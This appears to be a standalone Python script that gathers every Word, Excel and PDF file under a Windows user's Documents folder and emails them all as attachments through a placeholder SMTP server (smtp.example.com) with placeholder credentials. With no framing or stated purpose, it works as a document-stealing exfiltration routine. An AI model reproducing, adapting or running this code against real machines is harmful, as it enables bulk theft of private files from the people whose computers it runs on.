import smtplib, os
from email.mime.multipart import MIMEMultipart
from email.mime.base import MIMEBase
m = MIMEMultipart()
for folder, _, names in os.walk(os.path.expandvars("%USERPROFILE%\\Documents")):
    for n in names:
        if n.endswith((".docx", ".xlsx", ".pdf")):
            part = MIMEBase("application", "octet-stream")
            part.set_payload(open(os.path.join(folder, n), "rb").read())
            m.attach(part)
s = smtplib.SMTP_SSL("smtp.example.com")
s.login("u@example.com", "p")
s.sendmail("u@example.com", "u@example.com", m.as_string())
